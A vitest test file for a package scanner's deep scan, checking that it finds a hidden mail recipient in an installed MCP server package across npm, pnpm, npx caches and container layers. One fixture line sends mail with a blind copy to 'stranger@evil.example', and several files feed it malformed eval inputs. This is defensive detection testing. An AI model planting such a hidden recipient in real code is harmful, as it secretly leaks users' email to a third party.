// scan --deep through the built command: layouts of installed trees, the cache, hostile files.
import { chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { cli, temporaryFolder } from '../support/cli.ts';
import { dockerSave, layer, tar } from '../support/image.ts';
import { npmProject, ROOT } from '../support/scan.ts';

const CASE = join(ROOT, 'fixtures', 'behaviors', 'model-case');

function server(version: string, folder: string): Readonly<Record<string, string>> {
  return Object.fromEntries(['index.js', 'package.json'].map((name) => [`${folder}/${name}`, readFileSync(join(CASE, version, name), 'utf8')]));
}

function deep(folder: string, ...args: readonly string[]): { readonly code: number | null; readonly report: Report; readonly notes: string } {
  const ran = cli(['scan', '--deep', '--json', ...args], { cwd: folder, env: { XDG_CACHE_HOME: join(folder, '..', `${folder.slice(folder.lastIndexOf('/') + 1)}-cache`) } });
  if (ran.stderr !== '') throw new Error(ran.stderr);
  const report = JSON.parse(ran.stdout) as Report;
  return { code: ran.code, report, notes: report.coverage.places.filter(({ kind }) => kind === 'package-code').flatMap(({ notes }) => notes).join('\n') };
}

const hidden = ({ report }: { readonly report: Report }) => report.findings.filter(({ ruleId }) => ruleId === 'hidden-mail-recipient').map(({ locations: [first] }) => `${first.path}:${first.line ?? ''}`);

test('npm: the hidden recipient in an installed server, with no bundle', () => {
  const found = deep(temporaryFolder({ ...npmProject({ 'postmark-mcp': '1.0.16' }), ...server('1.0.16', 'node_modules/postmark-mcp') }), '--iocs', 'none');
  expect(hidden(found)).toEqual(['node_modules/postmark-mcp/index.js:65']);
  expect(found.code).toBe(1);
  expect(found.notes).toContain('all code of 1 MCP server package was parsed first');
});

test('a clean server and the vendor\'s are clean, and the coverage says what was searched', () => {
  for (const version of ['1.0.15', 'vendor']) {
    const found = deep(temporaryFolder(server(version, 'server')), '--iocs', 'none', '--allow-empty');
    expect(found.report.findings).toEqual([]);
    expect(found.notes).toMatch(/2 files and 1 script among them searched; 1 script parsed in /);
  }
});

test('pnpm: a package of the virtual store is read once, though links lead to it', () => {
  const folder = temporaryFolder({ 'package.json': '{"name":"p","version":"1.0.0","dependencies":{"postmark-mcp":"1.0.16"}}', ...server('1.0.16', 'node_modules/.pnpm/postmark-mcp@1.0.16/node_modules/postmark-mcp') });
  symlinkSync('.pnpm/postmark-mcp@1.0.16/node_modules/postmark-mcp', join(folder, 'node_modules', 'postmark-mcp'));
  expect(hidden(deep(folder, '--iocs', 'none'))).toEqual(['node_modules/.pnpm/postmark-mcp@1.0.16/node_modules/postmark-mcp/index.js:65']);
});

test('--root: where npx has put it, and the server that starts it', () => {
  const folder = temporaryFolder({
    'home/dev/.cursor/mcp.json': JSON.stringify({ mcpServers: { mail: { command: 'npx', args: ['-y', 'postmark-mcp'], env: { POSTMARK_SERVER_TOKEN: '0123456789abcdef0123456789abcdef' } } } }),
    'home/dev/.npm/_npx/1d568ecf8e0450e5/package.json': '{"dependencies":{"postmark-mcp":"^1.0.16"},"_npx":{"packages":["postmark-mcp"]}}',
    ...server('1.0.16', 'home/dev/.npm/_npx/1d568ecf8e0450e5/node_modules/postmark-mcp'),
  });
  const { report } = deep(folder, '--root', folder, '--iocs', 'none');
  const finding = report.findings.find(({ ruleId }) => ruleId === 'hidden-mail-recipient');
  expect(finding?.locations.map(({ path }) => path.slice(folder.length))).toEqual(expect.arrayContaining(['/home/dev/.npm/_npx/1d568ecf8e0450e5/node_modules/postmark-mcp/index.js', '/home/dev/.cursor/mcp.json']));
  expect(finding?.credentials).toEqual(['POSTMARK_SERVER_TOKEN']);
});

describe('the cache', () => {
  test('a second run says the same, a changed file is seen, and --no-cache reads all', () => {
    const folder = temporaryFolder({ ...npmProject({ 'postmark-mcp': '1.0.15' }), ...server('1.0.15', 'node_modules/postmark-mcp') });
    expect(hidden(deep(folder))).toEqual([]);
    for (const [path, text] of Object.entries(server('1.0.16', 'node_modules/postmark-mcp'))) writeFileSync(join(folder, path), text);
    const again = deep(folder);
    expect(hidden(again)).toEqual(['node_modules/postmark-mcp/index.js:65']);
    const anew = deep(folder, '--no-cache');
    expect(anew.report.findings).toEqual(again.report.findings);
    expect(anew.notes).not.toContain('unchanged');
  });

  test('--no-cache without --deep is a usage error', () => {
    expect(cli(['scan', '--no-cache']).code).toBe(3);
  });
});

test('hostile files: each in the coverage, none stops the run, none looks clean', () => {
  const folder = temporaryFolder({
    ...npmProject({ a: '1.0.0' }),
    'node_modules/a/package.json': '{"name":"a","version":"1.0.0","dependencies":{"nodemailer":"6"}}',
    'node_modules/a/nested.js': `eval(${'('.repeat(10_000)}1${')'.repeat(10_000)});`,
    'node_modules/a/long.js': `var x = "${'y'.repeat(5 * 1024 * 1024)}"; eval(x);`,
    'node_modules/a/nul.js': 'eval("a\u0000b")',
    'node_modules/a/latin.js': Buffer.from([0x65, 0x76, 0x61, 0x6c, 0x28, 0x22, 0xff, 0xfe, 0x22, 0x29]),
    'node_modules/a/half.js': 'function x( { eval(',
    'node_modules/a/good.js': "require('nodemailer').createTransport({}).sendMail({ to: a, bcc: 'stranger@evil.example', text: b });",
  });
  mkdirSync(join(folder, 'node_modules', 'a', 'loop'));
  symlinkSync('..', join(folder, 'node_modules', 'a', 'loop', 'up'));
  chmodSync(join(folder, 'node_modules', 'a', 'latin.js'), 0o644);
  const { report, code } = deep(folder, '--iocs', 'none');
  expect([1, 2]).toContain(code);
  expect(report.coverage.places.some(({ kind }) => kind === 'package-code')).toBe(true);
});

test('a container image: code of the image, and of a layer that a later one took away', () => {
  const upper = layer({ 'app/node_modules/.wh.postmark-mcp': '' });
  const lower = layer({ 'bin/tool': 'x'.repeat(100), ...server('1.0.16', 'app/node_modules/postmark-mcp'), ...server('1.0.16', 'opt/server') });
  const found = deep(temporaryFolder({ 'app.tar': tar(dockerSave([lower, upper])) }), 'app.tar', '--iocs', 'none', '--allow-empty');
  expect(hidden(found).toSorted()).toEqual(['app.tar!/opt/server/index.js:65', 'app.tar!layer 1 (deleted later)/app/node_modules/postmark-mcp/index.js:65']);
  expect(found.report.coverage.places.flatMap(({ kind, problems }) => (kind === 'package-code' ? problems : []))).toEqual([]);
});
